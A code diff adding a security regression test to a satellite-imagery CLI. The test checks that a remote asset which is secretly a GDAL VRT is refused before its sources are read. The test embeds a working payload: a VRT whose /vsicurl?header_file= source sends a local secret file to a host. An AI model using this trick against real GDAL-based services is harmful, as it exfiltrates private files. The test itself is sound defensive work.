@@ -309,3 +309,45 @@ def test_a_stac_api_is_asked_only_on_its_own_host(tmp_path, run_cli, hosts):
     code, _, err = run_cli("fill", scene_file, "-e", f"{url}#my-l2a", "-o", str(tmp_path / "o.tif"))
     assert f"asset 'B04' ({bad}):" in _one_line(code, err), err
     assert not (tmp_path / "o.tif").exists() and not _leaked(host, far)
+
+
+def test_an_asset_served_as_a_vrt_is_refused_before_its_sources_are_read(tmp_path, run_cli, scene, hosts):
+    """A remote ``B05.tif`` whose bytes are a VRT names its own sources, ``/vsicurl?header_file=LOCALFILE``
+    among them, read at its first pixel: refused on the asset's first open (an asset over the network
+    is GeoTIFF or JPEG 2000), by sharpen's Item, predict's Item, fill's and predict --reference's catalogs."""
+    from test_fill_stac import _catalog, _s2, _scene
+    from test_reference import _catalog as _ref_catalog
+    from test_reference import aerial
+    from test_stac import _item_with_band_assets
+    folder, _, hrefs = scene
+    url, host = hosts(tmp_path)
+    (tmp_path / "secret.txt").write_text(SECRET + "\n")
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "evil" / "B05.tif").write_text(
+        '<VRTDataset rasterXSize="60" rasterYSize="60"><VRTRasterBand dataType="UInt16" band="1"><SimpleSource>'
+        f'<SourceFilename relativeToVRT="0">/vsicurl?header_file={tmp_path}/secret.txt&amp;url={url}/files/B05.tif'
+        '</SourceFilename><SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>')
+    bad = f"{url}/evil/B05.tif"
+    said = f"({bad}): GDAL reads it as VRT, a format that can name other files"
+    evil = item(tmp_path / "evil.json", hrefs | {"B05": bad})
+    assert said in refused(run_cli, tmp_path, str(folder), "--reference", str(evil), "-o", str(tmp_path / "o.tif"))
+    src = tmp_path / "item"
+    src.mkdir()
+    path = _item_with_band_assets(src)
+    d = json.loads(path.read_text())
+    d["assets"]["B1"]["href"] = bad
+    path.write_text(json.dumps(d))
+    code, _, err = run_cli("predict", str(path), "-m", "rgb2nir-naip", "-o", str(tmp_path / "out"))
+    assert f"asset {bad}: GDAL reads it as VRT" in _one_line(code, err), err
+    cat = _catalog(tmp_path, [_s2(tmp_path / "assets", "clear", "20200601")])
+    _patch(cat, "clear", "scl", bad)
+    code, _, err = run_cli("fill", _scene(tmp_path / "now"), "-e", cat, "-o", str(tmp_path / "o.tif"))
+    assert f"asset {bad}: GDAL reads it as VRT" in _one_line(code, err), err
+    ref = tmp_path / "ref"
+    ref.mkdir()
+    _, rgb, truth, _ = aerial(ref)
+    cat = str(_ref_catalog(ref, truth, [("clear", "2020-09-02", 3.0)]))
+    _patch(cat, "clear", "nir", bad)
+    code, _, err = run_cli("predict", str(rgb), "-m", "rgb2nir", "--reference", cat, "-o", str(tmp_path / "o.tif"))
+    assert f"asset {bad}: GDAL reads it as VRT" in _one_line(code, err), err
+    assert not _leaked(host) and not [r for r in host.heard if r[1] == "/files/B05.tif"], host.heard
